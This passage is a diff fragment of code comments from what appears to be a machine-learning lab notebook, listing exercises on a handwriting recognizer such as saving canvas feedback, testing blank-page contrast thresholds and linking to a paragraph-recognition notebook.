+#   behind the app. How large may it grow? What does section 7 say to it?
+# - Send the canvas's picture of your own handwriting as feedback, and find it below
+#   `.lab/notebooks/05/feedback`.
+# - Let exercise 5 loose on `data/pages`: from which contrast on (see `draw.photos`) is a page
+#   called blank, and at which does the recognizer give up? Which of the two should be first?
+# - How the model behind the page reads: [From an image to its
+#   text](03_paragraph_text_recognizer.ipynb).
